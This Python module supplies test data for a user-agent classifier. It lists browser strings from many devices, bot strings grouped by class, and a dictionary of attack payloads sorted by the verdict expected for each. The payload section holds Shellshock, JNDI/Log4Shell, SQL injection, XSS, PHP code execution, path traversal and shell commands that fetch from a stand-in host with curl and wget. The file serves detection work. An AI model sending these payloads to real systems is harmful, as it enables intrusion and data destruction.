"""User agents as they are seen in the wild: people's, and bots' with the class they belong to."""

from __future__ import annotations

_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_WINDOWS = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_WEBKIT}"
_ANDROID = f"Mozilla/5.0 (Linux; Android 10; K) {_WEBKIT}"
_PIXEL = (
    f"Mozilla/5.0 (Linux; Android 15; Pixel 8 Build/AP3A.241005.015; wv) {_WEBKIT} Version/4.0 "
    "Chrome/131.0.6778.200 Mobile Safari/537.36"
)
_IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko)"
)

PEOPLE = (
    # Desks.
    f"{_WINDOWS} Chrome/142.0.0.0 Safari/537.36",
    f"{_WINDOWS} Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    f"{_WINDOWS} Chrome/141.0.0.0 Safari/537.36 OPR/125.0.0.0",
    f"{_WINDOWS} Chrome/138.0.0.0 Safari/537.36 Vivaldi/7.5.3735.54",
    f"{_WINDOWS} Chrome/136.0.0.0 YaBrowser/25.6.0.0 Safari/537.36",
    f"{_WINDOWS} Chrome/130.0.0.0 Safari/537.36 Avast/130.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 SeaMonkey/2.53.21",
    f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {_WEBKIT} Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; FreeBSD amd64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)",
    "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Embedded Web Browser from: http://bsalsa.com/)",
    # Pockets.
    "MozacFetch/145.0.20251103",
    f"{_ANDROID} Chrome/142.0.0.0 Mobile Safari/537.36",
    f"{_ANDROID} SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    f"{_ANDROID} Chrome/139.0.0.0 Mobile Safari/537.36 EdgA/139.0.0.0",
    "Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0",
    f"{_ANDROID} Version/4.0 Chrome/131.0.0.0 Mobile DuckDuckGo/5 Safari/537.36",
    f"{_IPHONE} Version/18.1 Mobile/15E148 Safari/604.1",
    f"{_IPHONE} CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1",
    f"{_IPHONE} FxiOS/145.0 Mobile/15E148 Safari/605.1.15",
    f"{_IPHONE} GSA/390.0.812345678 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25",
    "Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
    "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0 Mobile Safari",
    "Nokia6300/2.0 (07.21) Profile/MIDP-2.0 Configuration/CLDC-1.1",
    # Handsets whose names are bots' words.
    f"Mozilla/5.0 (Linux; Android 6.0; CUBOT MAX) {_WEBKIT} Chrome/72.0.0.0 Mobile Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 7.0; M bot 60) {_WEBKIT} Chrome/58.0.0.0 Mobile Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 9; X20 PRO; wv) {_WEBKIT} Chrome/101.0.4951.61 Mobile "
    "Safari/537.36 Instagram 237.0.0.7.102 Android (28/9; 480dpi; 1080x2115; CUBOT; X20 PRO)",
    f"Mozilla/5.0 (Linux; Android 5.1; S550; wv) {_WEBKIT} Chrome/74.0.3729.157 Mobile "
    "Safari/537.36 [FBAN/FB4A;FBAV/520.0.0.45.90;FBBD/CUBOT;FBDV/CUBOT X19;FBSV/9;]",
    "CUBOT_NOTE_S/1.0 Linux/3.10.72 Android/5.1 Release/11.2.2015 Browser/AppleWebKit537.36",
    "Dalvik/2.1.0 (Linux; U; Android; CUBOT_P20 Build/O11019)",
    "Mozilla/5.0 (Linux; U; Android 4.3; en-us; HTC_Butterfly Build/JSS15J) AppleWebKit/534.30 "
    "(KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    # Apps with a browser in them.
    f"{_IPHONE} Mobile/15E148 Instagram 400.0.0.20.75 (iPhone15,2; iOS 18_1; en_GB; en; "
    "scale=3.00; 1179x2556; 780000000)",
    f"{_IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/530.0.0.40.72;FBBV/700000000;FBDV/iPhone15,2;"
    "FBMD/iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]",
    f"{_PIXEL} [FB_IAB/FB4A;FBAV/520.0.0.45.90;]",
    f"{_PIXEL} trill_370204 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly "
    "app_version/37.2.4 ByteLocale/en ByteFullLocale/en Region/US BytedanceWebview/d8a21c6",
    f"{_IPHONE} Mobile/15E148 musical_ly_37.2.0 JsSdk/2.0 NetType/WIFI Channel/App Store",
    f"{_IPHONE} Mobile/15E148 Safari Line/14.19.0",
    f"{_PIXEL} Line/14.19.0/IAB",
    f"{_IPHONE} Mobile/15E148 MicroMessenger/8.0.53(0x18003531) NetType/WIFI Language/zh_CN",
    f"{_IPHONE} Mobile/15E148 Snapchat/13.20.0.45 (like Safari/8619.2.8.10.9, panda)",
    f"{_WINDOWS} Chrome/130.0.0.0 Safari/537.36 (Ecosia browser@130.0.6723.117)",
    f"{_PIXEL} Pinterest for Android/12.40.0",
    f"{_PIXEL} CamScanner/6.60.0",
    f"{_PIXEL} Viber/22.9.0.5",
    f"{_IPHONE} Mobile/15E148 NAVER(inapp; search; 2000; 12.8.0; 15PRO)",
    "Mozilla/5.0 (Linux; Android 14; SM-S911B; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/130.0.0.0 Mobile Safari/537.36 YandexSearch/24.110",
    "AnyCafeApp/3.1 CFNetwork/1568.100.1 Darwin/24.0.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    # Living rooms.
    f"Mozilla/5.0 (Web0S; Linux/SmartTV) {_WEBKIT} Chrome/108.0.0.0 Safari/537.36 WebAppManager",
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "94.0.4606.31/7.0 TV Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 9; AFTKA) {_WEBKIT} Silk/130.4.1 like Chrome/130.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/6.00) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.4 Safari/605.1.15",
    "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 "
    "(KHTML, like Gecko) NF/6.0.3",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) {_WEBKIT} Chrome/121.0.0.0 "
    "Safari/537.36 Edge/44.18363.8131",
    f"Mozilla/5.0 (X11; Linux x86_64; Quest 3) {_WEBKIT} OculusBrowser/35.4 Chrome/130.0.0.0 VR "
    "Safari/537.36",
    "Mozilla/5.0 (X11; U; Linux armv7l like Android; en-us) AppleWebKit/531.2+ (KHTML, like Gecko) "
    "Version/5.0 Safari/533.2+ Kindle/3.0+",
    # Text.
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
    "ELinks/0.16.1.1 (textmode; Linux 6.1 x86_64; 120x40-2)",
    "Links (2.29; Linux 6.8.0-45-generic x86_64; GNU C 13.2; text)",
    "w3m/0.5.3+git20230121",
)
"""Of people, on all sorts of devices, with all sorts of programs."""

_GOOGLEBOT = "compatible; Googlebot/2.1; +http://www.google.com/bot.html"

BOTS = {
    "search engine": (
        f"Mozilla/5.0 ({_GOOGLEBOT})",
        f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {_WEBKIT} Chrome/141.0.7390.54 "
        f"Mobile Safari/537.36 ({_GOOGLEBOT})",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
        "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    ),
    "ai training": (
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; GPTBot/1.3; +https://openai.com/gptbot)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        "CCBot/2.0 (https://commoncrawl.org/faq/)",
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
        "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    ),
    "ai search": (
        f"{_WINDOWS} Chrome/131.0.0.0 Safari/537.36; compatible; OAI-SearchBot/1.3; "
        "+https://openai.com/searchbot",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; PerplexityBot/1.0; "
        "+https://perplexity.ai/perplexitybot)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; Claude-SearchBot/1.0; +searchbot@anthropic.com)",
    ),
    "ai user": (
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; ChatGPT-User/1.0; +https://openai.com/bot)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; Claude-User/1.0; +Claude-User@anthropic.com)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; Perplexity-User/1.0; "
        "+https://perplexity.ai/perplexity-user)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; MistralAI-User/1.0; "
        "+https://docs.mistral.ai/robots)",
        "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/132.0.0.0 Safari/537.36; NobodysAI-User/1.0",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; compatible; Amzn-User/0.1) Chrome/119.0.0.0 Safari/537.36",
    ),
    "seo": (
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    ),
    "monitor": (
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "ELB-HealthChecker/2.0",
    ),
    "feed reader": (
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)",
        "UniversalFeedParser/5.2.1 +https://code.google.com/p/feedparser/",
    ),
    "link preview": (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "WhatsApp/2.23.20.0",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    ),
    "archiver": (
        "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)",
    ),
    "scanner": (
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "w3af.org",
        "Mozilla/5.0 (compatible; w3af/1.7)",
        f"{_WINDOWS} Chrome/41.0.2228.0 Safari/537.21 netsparker",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) Acunetix",
        "acunetix_wvs_security_test",
        "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
        "gobuster/3.1.0",
        "Fuzz Faster U Fool v2.1.0",
    ),
    "tool": (
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        f"Mozilla/5.0 (X11; Linux x86_64) {_WEBKIT} HeadlessChrome/131.0.0.0 Safari/537.36",
    ),
    "other": (
        # Unknown to every list: only their shape tells.
        "NobodyKnowsMeBot/0.1",
        "my-new-crawler",
        "SomeSpider 1",
        "Fresh/1.0 (+https://example.org/why)",
        "Mozilla/5.0 (compatible; Freshlet/1.0; office at fresh.example)",
        f"{_WINDOWS} Chrome/120.0.0.0 Safari/537.36 (compatible; Freshlet)",
        f"Mozilla/5.0 {_WEBKIT[:-1]}; Freshlet/2) Chrome/120.0.0.0 Safari/537.36",
        "Freshlet/1.0 (mailto:office@fresh.example)",
        "fresh-page-checker",
        "Freshlet",
        "Freshlet/3.2.1",
        "Mozilla/5.0",
    ),
}
"""By class."""

ATTACKS = {
    "carries a shell function (Shellshock)": (
        "() { :;}; /bin/bash -c 'id'",
        "() { ignored; }; echo Content-Type: text/html",
    ),
    "carries a look-up or an expression (JNDI, EL, OGNL)": (
        "${jndi:ldap://198.51.100.1/a}",
        "${${lower:j}ndi:${lower:l}dap://198.51.100.1/a}",
        "%24%7Bjndi:dns://198.51.100.1%7D",
        "%{(#_='multipart/form-data')}",
    ),
    "carries template code": ("{{7*7}}", "<%= 7 * 7 %>", "{% debug %}"),
    "carries SQL": (
        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "1 UNION ALL SELECT NULL,NULL",
        "'; WAITFOR DELAY '0:0:15'--",
        "Mozilla/5.0' AND 1=1",
        "x'; DROP TABLE visits",
    ),
    "carries a script or markup (cross-site scripting)": (
        "<script>alert(1)</script>",
        r"\x22><svg/onload=alert(1)>",
        "%3Cscript%3E",
        "<img src=x onerror=fetch(1)>",
        "javascript:x",
    ),
    "carries program code": (
        "<?php system('id'); ?>",
        'Mozilliqa"<?=print(9347655345-4954366);?>"',
        r"}__test|O:21:\"JDatabaseDriverMysqli\":3",
        "php://input",
    ),
    "asks for a file outside of the site": (
        "../../../../etc/passwd",
        r"..\\..\\windows",
        "%2e%2e%2fetc%2fpasswd",
        "Mozilla/5.0 (Laravel Reaver .env Presence)",
    ),
    "carries an XML document type or entity (XXE)": (
        "<!DOCTYPE x>",
        "<!ENTITY x SYSTEM 'x'>",
    ),
    "carries a shell command": (
        "$(curl 198.51.100.1)",
        "; wget http://198.51.100.1/x",
        "| ping -c 10 127.0.0.1",
        "/bin/sh",
    ),
    "carries a header of its own (CRLF injection)": ("x%0d%0aSet-Cookie: a=b",),
    "carries an LDAP filter": ("*)(uid=*",),
    "calls back to a scanner's server": ("http x.bxss.me", "a.b.oast.fun"),
    "names an attack": ("exploit-check", "pentest"),
}
"""Attacks in user agents, by what the verdict says of them."""
